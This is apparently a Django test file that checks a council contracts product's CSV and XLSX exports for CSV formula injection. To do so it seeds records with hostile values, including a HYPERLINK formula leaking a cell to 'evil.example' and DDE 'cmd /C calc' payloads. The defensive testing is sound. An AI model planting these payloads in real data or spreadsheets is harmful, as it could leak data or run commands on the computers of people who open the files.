"""Every CSV and XLSX the product writes is safe to open in a spreadsheet: text a council officer or a
provider typed (a contract title, a supplier's name, a rating's reasons, a KPI's name, a DfE rule's words)
never runs as a formula. A text cell never starts with =, +, -, @, a tab or a carriage return unless it is a
number, and an XLSX holds no formula cells.

The walk covers every download URL (a route ending .csv or .xlsx, or named *export*) and every export_*
command: a new one fails here until it is added below.
"""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
import time_machine
from django.core.management import call_command, get_commands
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from contracts.tests.factories import ContractFactory, ProviderFactory
from kpis.tests.factories import IndicatorFactory, MeasurementFactory
from market.models import ContractPerformanceAssessment
from placements.models import DfeCheck, DfeFinding

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full report")'
HOSTILE = {
    "contract title": FORMULA,
    "provider name": '+HYPERLINK("http://evil.example","Provider")',
    "contract description": "-2+3+cmd|' /C calc'!A0",
    "rating reasons": "@SUM(1+1)*cmd|' /C calc'!A0",
    "kpi name": "\t=1+1 KPI",
    "kpi definition": "\r=1+1 definition",
    "dfe description": FORMULA,
    "dfe file": "=episodes",
    "dfe child": "-CHILD1",
    "dfe rule": "+101",
}
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
TODAY = date(2025, 6, 2)

# Commands that write data files but not spreadsheets.
NOT_SPREADSHEETS = {"export_ocds"}  # OCDS JSON


def _hostile_records():
    provider = ProviderFactory(name=HOSTILE["provider name"])
    contract = ContractFactory(
        title=HOSTILE["contract title"], description=HOSTILE["contract description"], provider=provider,
        start_date=date(2024, 4, 1), end_date=date(2027, 3, 31), annual_value=Decimal("100000"),
    )
    ContractPerformanceAssessment.objects.create(
        contract=contract, year_ending=date(2025, 3, 31), rating="requires_improvement",
        reasons=HOSTILE["rating reasons"],
    )
    indicator = IndicatorFactory(name=HOSTILE["kpi name"], definition=HOSTILE["kpi definition"], unit="count")
    MeasurementFactory(indicator=indicator, value=Decimal("-5"))
    check = DfeCheck.objects.create(status="done", collection_year=2025)
    DfeFinding.objects.create(
        check_run=check, rule_code=HOSTILE["dfe rule"], description=HOSTILE["dfe description"], row_count=1,
        rows=[[HOSTILE["dfe file"], 2, HOSTILE["dfe child"]]],
    )
    return {"check": check}


def _download_urls(records):
    """(URL name, address, who downloads it) for every export."""
    check = records["check"]
    return [
        ("contracts:export", reverse("contracts:export", kwargs={"fmt": "csv"}), "commissioner"),
        ("contracts:export", reverse("contracts:export", kwargs={"fmt": "xlsx"}), "commissioner"),
        ("contracts:transparency", reverse("contracts:transparency") + "?as_of=2025-06-01", "commissioner"),
        ("contracts:public_transparency", reverse("contracts:public_transparency"), "commissioner"),
        ("market:ratings_export", reverse("market:ratings_export"), "commissioner"),
        ("placements:dfe_check_rows", reverse("placements:dfe_check_rows", kwargs={"pk": check.pk}), "placements"),
        ("kpis:index", reverse("kpis:index") + "?export=csv", "commissioner"),
        ("kpis:index", reverse("kpis:index") + "?export=xlsx", "commissioner"),
    ]


def _export_url_names(resolver=None, namespace=""):
    """Names of routes that download a file: ending .csv/.xlsx/.<fmt>, or named *export*."""
    names = set()
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            names |= _export_url_names(entry, inner)
        elif isinstance(entry, URLPattern) and entry.name:
            route = str(entry.pattern)
            if route.endswith((".csv", ".xlsx", ".<str:fmt>")) or "export" in entry.name:
                names.add(namespace + entry.name)
    return names


def _cells(content: bytes, content_type: str):
    if content_type.startswith("text/csv"):
        yield from (cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row)
        return
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                yield cell.value


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def _assert_guarded(cells, where: str) -> int:
    """Every cell is safe; returns how many cells held one of the hostile values (guarded)."""
    cells = list(cells)
    unsafe = [c for c in cells if isinstance(c, str) and c.startswith(DANGEROUS_START) and not _is_number(c)]
    assert not unsafe, f"{where}: cells a spreadsheet would run: {unsafe}"
    return sum(1 for c in cells if isinstance(c, str) and c.lstrip("'") in HOSTILE.values())


@time_machine.travel(TODAY, tick=False)
def test_every_download_writes_no_cell_a_spreadsheet_would_run(
    client, commissioner, placements_officer, settings
):
    settings.OPEN_DATA_PUBLIC = True  # the Transparency Code file at its public address too
    records = _hostile_records()
    users = {"commissioner": commissioner, "placements": placements_officer}
    downloads = _download_urls(records)
    # Blank templates hold the column names and no record (placements/tests/test_import_903_upload.py reads them).
    templates = {"placements:import_903_template"}
    assert _export_url_names() - templates <= {name for name, _, _ in downloads}, "an export URL is not walked here"
    for _, url, who in downloads:
        client.force_login(users[who])
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.get("Content-Disposition", "").startswith("attachment"), url
        guarded = _assert_guarded(_cells(response.content, response["Content-Type"]), url)
        assert guarded, f"{url}: the hostile records are not in it, so it proves nothing"


@time_machine.travel(TODAY, tick=False)
def test_every_export_command_writes_no_cell_a_spreadsheet_would_run(tmp_path):
    _hostile_records()
    commands = sorted(name for name in get_commands() if name.startswith("export_") and name not in NOT_SPREADSHEETS)
    assert commands == ["export_transparency"], "a new export command: walk it here"
    for name in commands:
        output = tmp_path / f"{name}.csv"
        call_command(name, "--as-of", "2025-06-01", "--output", str(output))
        guarded = _assert_guarded(_cells(output.read_bytes(), "text/csv"), name)
        assert guarded, f"{name}: the hostile records are not in it, so it proves nothing"


def test_the_guard_keeps_numbers_as_numbers_and_quotes_text_a_spreadsheet_would_run():
    from core.formatting import spreadsheet_safe

    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(Decimal("-1.5")) == Decimal("-1.5")
    assert [spreadsheet_safe(v) for v in DANGEROUS_START] == ["'" + v for v in DANGEROUS_START]
